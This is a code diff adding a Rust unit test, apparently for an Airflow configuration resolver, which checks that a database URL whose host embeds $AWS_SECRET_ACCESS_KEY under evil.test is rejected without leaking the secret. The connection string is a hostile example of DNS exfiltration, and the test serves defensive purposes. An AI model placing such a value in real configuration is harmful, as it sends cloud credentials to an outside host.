@@ -205,6 +205,18 @@ fn what_cannot_be_used_is_named_with_its_place_and_never_quoted() {
     }
 }
 
+/// No name is asked of the DNS that is made of a secret.
+#[test]
+fn a_secret_s_variable_names_no_host() {
+    const URL: &str = "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN";
+    let evil = "postgresql://u:p@$AWS_SECRET_ACCESS_KEY.evil.test/x";
+    let (_directory, settings) = home("", &[(URL, evil), ("AWS_SECRET_ACCESS_KEY", "CANARY")]);
+    let error = url(&settings).unwrap_err();
+    assert!(!format!("{error} {error:?}").contains("CANARY"));
+    let named = "AWS_SECRET_ACCESS_KEY".to_owned();
+    assert_eq!(fault(error), Fault::SecretInHost { place: variable(URL), variable: named });
+}
+
 #[test]
 fn a_secret_without_a_backend_is_passed_over_as_by_airflow() {
     const SECRET: (&str, &str) = ("AIRFLOW__CORE__FERNET_KEY_SECRET", "name");
